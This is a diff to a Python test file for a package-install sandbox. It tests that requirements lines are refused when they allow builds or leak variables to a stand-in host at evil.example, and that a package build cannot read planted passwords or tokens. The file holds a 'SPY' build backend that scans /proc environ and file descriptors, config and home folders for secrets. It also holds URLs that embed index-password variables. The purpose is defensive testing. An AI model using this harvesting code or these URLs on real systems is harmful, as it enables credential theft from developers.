@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import fcntl
 import io
 import json
@@ -11,14 +12,19 @@ import subprocess
 import sys
 import tarfile
 import textwrap
+import threading
 import time
+import zipfile
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import ClassVar
 
 import psutil
 import pytest
 
 from environments.process import requirements
-from environments.process.faults import EnvironmentFault
+from environments.process.faults import EnvironmentFault, remedy
 from environments.process.host import EnvironmentHost
 from tests.folders import environment_folder
 
@@ -47,6 +53,12 @@ def environment_of(pid: int) -> bytes:
 
 def started(*commands: tuple[str, ...]) -> list[subprocess.Popen[str]]:
     return [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for command in commands]
+
+
+def allow(flash_home: Path, line: str) -> None:
+    """Write what the operator allows."""
+    flash_home.mkdir(exist_ok=True)
+    (flash_home / "settings.toml").write_text(f"[environments]\n{line}\n")
 
 
 async def fault_of(folder: Path, **options: float) -> EnvironmentFault:
@@ -129,6 +141,28 @@ async def test_a_line_that_refers_to_other_files_is_refused(line: str, tmp_path:
     )
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--no-binary attacker",
+        "--no-build-isolation",
+        "--config-settings a=b",
+        "--trusted-host evil.example",
+        "one @ https://evil.example/${UV_INDEX_TEAM_PASSWORD}/one-1-py3-none-any.whl",
+        "--extra-index-url https://evil.example/${UV_DEFAULT_INDEX}",
+    ],
+)
+async def test_a_line_that_allows_builds_or_reads_a_variable_is_refused(
+    line: str, tmp_path: Path
+) -> None:
+    fault = await fault_of(folder_with(tmp_path, f"six\n{line}\n"))
+    assert fault.code == "requirements_failed"
+    assert f"requirements.txt line 2: {line!r:.100} has an option or a variable" in fault.what
+    options = "--index-url https://a.example/simple\n-f https://b.example\n--pre\nsix\n"
+    (tmp_path / "environment" / "requirements.txt").write_text(options)
+    assert len(requirements.of_folder(tmp_path / "environment")) == 4
+
+
 async def test_who_has_no_time_left_is_told_so_and_finds_it_done_later(tmp_path: Path) -> None:
     folder = folder_with(tmp_path, SMALL)
     assert (await fault_of(folder, timeout_s=0)).code == "not_ready"
@@ -189,13 +223,13 @@ def test_of_two_installers_one_installs(tmp_path: Path) -> None:
         from pathlib import Path
         from environments.process import requirements
 
-        def install(target):
+        def install(target, lines):
             with (target / "venv" / "installed").open("a") as stream:
                 stream.write("once ")
             time.sleep(0.3)
-            return "one==1"
 
-        requirements.install, sys.argv = install, ["", {str(tmp_path)!r}]
+        requirements.install_wheels, sys.argv = install, ["", {str(tmp_path)!r}]
+        requirements.finish = lambda target: "one==1"
         requirements.main()
     """
     command = (sys.executable, "-c", textwrap.dedent(code))
@@ -287,11 +321,15 @@ def attacker(tmp_path: Path, flash_home: Path) -> Path:
     """A folder with the source of ATTACKER's package; what it is after is in place."""
     flash_home.mkdir()
     (flash_home / "secret").write_text("planted")
-    folder = tmp_path / "packages"
+    backend = f"HOME, SERVER = {str(flash_home)!r}, {os.getpid()}\n{ATTACKER}"
+    return source_package(tmp_path / "packages", backend)
+
+
+def source_package(folder: Path, backend: str) -> Path:
+    """A folder with attacker-1.tar.gz, which has no wheel."""
     folder.mkdir()
     project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
     project += '[project]\nname = "attacker"\nversion = "1"\n'
-    backend = f"HOME, SERVER = {str(flash_home)!r}, {os.getpid()}\n{ATTACKER}"
     with tarfile.open(folder / "attacker-1.tar.gz", "w:gz") as archive:
         for name, text in (("pyproject.toml", project), ("backend.py", backend)):
             member = tarfile.TarInfo(f"attacker-1/{name}")
@@ -302,10 +340,11 @@ def attacker(tmp_path: Path, flash_home: Path) -> Path:
 
 @pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the walls are the Linux kernel's")
 async def test_a_packages_build_and_its_start_up_code_stand_behind_the_walls(
-    tmp_path: Path, attacker: Path, monkeypatch: pytest.MonkeyPatch
+    tmp_path: Path, flash_home: Path, attacker: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("UV_FIND_LINKS", str(attacker))
     monkeypatch.setenv("UV_OFFLINE", "1")
+    allow(flash_home, 'build_from_source = ["attacker"]')
     source = """
         import json
         import attacker
@@ -325,3 +364,193 @@ async def test_a_packages_build_and_its_start_up_code_stand_behind_the_walls(
     assert ["sleep", "4321"] not in [
         process.info["cmdline"] for process in psutil.process_iter(["cmdline"])
     ]
+
+
+async def test_a_package_without_a_wheel_is_not_built_unless_the_operator_allows_it(
+    tmp_path: Path, attacker: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("UV_FIND_LINKS", str(attacker))
+    monkeypatch.setenv("UV_OFFLINE", "1")
+    fault = await fault_of(folder_with(tmp_path, "attacker\n"))
+    assert fault.code == "requirements_failed"
+    assert "attacker" in fault.what
+    fix = remedy(fault)
+    assert fix is not None and "settings.toml: [environments] build_from_source" in fix
+
+
+# What the build of a package looks for: passwords of indexes, tokens for uploads, our variables.
+SPY = """
+import os, zipfile
+from pathlib import Path
+
+def texts():
+    yield repr(dict(os.environ))
+    for place in ("/proc", CONFIG, HOME):
+        for folder, folders, files in os.walk(place):
+            folders[:] = [name for name in folders if place != "/proc" or name.isdecimal() or name in ("fd", "task")]
+            for name in files:
+                if place != "/proc" or name in ("environ", "cmdline") or "/fd" in folder:
+                    try:  # a pipe must not block it
+                        file = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
+                        yield os.pread(file, 100_000, 0).decode(errors="replace")
+                        os.close(file)
+                    except OSError:
+                        pass
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    everything = "".join(texts())
+    found = [word for word in WORDS if word[::-1] in everything]
+    info = "attacker-1.dist-info/"
+    with zipfile.ZipFile(Path(wheel_directory, "attacker-1-py3-none-any.whl"), "w") as wheel:
+        wheel.writestr("attacker.py", f"FOUND = {found!r}; SEEN = {len(everything)}")
+        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: attacker\\nVersion: 1\\n")
+        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+        wheel.writestr(info + "RECORD", "")
+    return "attacker-1-py3-none-any.whl"
+"""
+
+
+class PrivateIndex(BaseHTTPRequestHandler):
+    """An index with one wheel, for those who know the password."""
+
+    wheel = b""
+    asked: ClassVar[list[str]] = []
+
+    def do_HEAD(self) -> None:
+        self.do_GET()
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        password = base64.b64encode(b"reader:planted-index").decode()
+        if self.headers.get("Authorization") != f"Basic {password}":
+            self.send_response(401)
+            self.send_header("WWW-Authenticate", 'Basic realm="packages"')
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        link = '<a href="/files/private-1-py3-none-any.whl">private-1-py3-none-any.whl</a>'
+        body = self.wheel if self.path.endswith(".whl") else link.encode()
+        is_there = "private" in self.path
+        self.send_response(200 if is_there else 404)
+        kind = "application/octet-stream" if self.path.endswith(".whl") else "text/html"
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if self.command == "GET":
+            self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        """Print nothing."""
+
+
+@pytest.fixture
+def private_index() -> Iterator[str]:
+    """The address of an index, with the password."""
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as wheel:
+        info = "private-1.dist-info/"
+        wheel.writestr("private.py", "ANSWER = 42")
+        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: private\nVersion: 1\n")
+        wheel.writestr(
+            info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+        )
+        wheel.writestr(info + "RECORD", "")
+    PrivateIndex.wheel = stream.getvalue()
+    PrivateIndex.asked.clear()
+    with ThreadingHTTPServer(("127.0.0.1", 0), PrivateIndex) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://reader:planted-index@127.0.0.1:{server.server_port}/simple"
+        server.shutdown()
+
+
+@pytest.mark.parametrize("place", ["a variable", "a settings file"])
+async def test_a_build_sees_no_password_of_an_index(
+    tmp_path: Path,
+    flash_home: Path,
+    private_index: str,
+    monkeypatch: pytest.MonkeyPatch,
+    place: str,
+) -> None:
+    config = tmp_path / "config"
+    (config / "uv").mkdir(parents=True)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
+    for name in ("UV_INDEX_URL", "UV_INDEX", "UV_EXTRA_INDEX_URL", "UV_OFFLINE", "UV_FIND_LINKS"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.delenv("UV_DEFAULT_INDEX", raising=False)
+    if place == "a variable":
+        monkeypatch.setenv("UV_DEFAULT_INDEX", private_index)
+    else:
+        text = f'[[index]]\nurl = "{private_index}"\ndefault = true\n'
+        (config / "uv" / "uv.toml").write_text(text)
+    monkeypatch.setenv("UV_PUBLISH_TOKEN", "planted-upload")
+    monkeypatch.setenv("FLASH_TOKEN", "planted-flash")
+    monkeypatch.setenv("SERVICE_KEY", "planted-secret")
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
+    # Spelt backwards, so that the build does not find them in its own source.
+    words = [word[::-1] for word in ("planted-index", "planted-upload", "planted-flash")]
+    words.append("planted-secret"[::-1])
+    head = f"CONFIG, HOME, WORDS = {str(config)!r}, {str(Path.home())!r}, {words!r}\n"
+    monkeypatch.setenv("UV_FIND_LINKS", str(source_package(tmp_path / "packages", head + SPY)))
+    allow(flash_home, 'build_from_source = ["Attacker"]')
+    source = """
+        import attacker, private
+
+        class Sample(Addition):
+            def build_prompt_messages(self, example, prompt_text):
+                told = f"{attacker.FOUND} {attacker.SEEN > 1000} {private.ANSWER}"
+                return [{"role": "user", "content": told}]
+    """
+    folder = folder_with(tmp_path, "attacker\nprivate\n", source, returns="Sample()")
+    secrets = {"SERVICE_KEY": "planted-secret"}
+    async with await EnvironmentHost.start(folder, secrets=secrets) as host:
+        assert (await host.open("train", 0)).messages[0]["content"] == "[] True 42"
+
+
+# -- room on the disk ------------------------------------------------------------------------------
+
+
+def interpreter_of(home: Path, name: str, kib: int, used: float) -> Path:
+    """What an installer leaves, without the packages."""
+    target = home / "interpreters" / name
+    (target / "venv" / "bin").mkdir(parents=True)
+    (target / "venv" / "packages").write_bytes(b"x" * (kib << 10))
+    for file in ("ready", "lock", "used"):
+        (target / file).touch()
+        os.utime(target / file, (used, used))
+    return target
+
+
+def test_interpreters_that_nobody_used_for_long_make_room_for_others(flash_home: Path) -> None:
+    allow(flash_home, "interpreters_gib = 0.001")
+    oldest, old, held = (
+        interpreter_of(flash_home, name, 500, used)
+        for name, used in (("oldest", 1000.0), ("old", 3000.0), ("held", 2000.0))
+    )
+    assert requirements.interpreters_bytes() >= 1500 << 10
+    new = flash_home / "interpreters" / "new"
+    with requirements.hold(held / "venv" / "bin" / "python") or io.StringIO():
+        os.utime(held / "used", (2000, 2000))
+        assert requirements._make_room(new) == ""  # pyright: ignore[reportPrivateUsage]
+        assert [each.is_dir() for each in (oldest / "venv", held / "venv", old / "venv")] == [
+            False,
+            True,
+            True,
+        ]
+        assert not (oldest / "ready").exists()
+        allow(flash_home, "interpreters_gib = 0.0001")
+        why = requirements._make_room(new)  # pyright: ignore[reportPrivateUsage]
+        assert "settings.toml allows 0.0001 GiB: [environments] interpreters_gib" in why
+        assert (held / "ready").exists() and not (old / "ready").exists()
+    assert requirements._make_room(new) == ""  # pyright: ignore[reportPrivateUsage]
+    assert not (held / "ready").exists()
+
+
+async def test_an_installation_without_room_says_who_may_change_it(
+    tmp_path: Path, flash_home: Path
+) -> None:
+    allow(flash_home, "interpreters_gib = 0.0001")
+    held = interpreter_of(flash_home, "held", 500, 1000.0)
+    with requirements.hold(held / "venv" / "bin" / "python") or io.StringIO():
+        fault = await fault_of(folder_with(tmp_path, SMALL))
+    assert fault.code == "requirements_failed"
+    assert "[environments] interpreters_gib" in fault.what
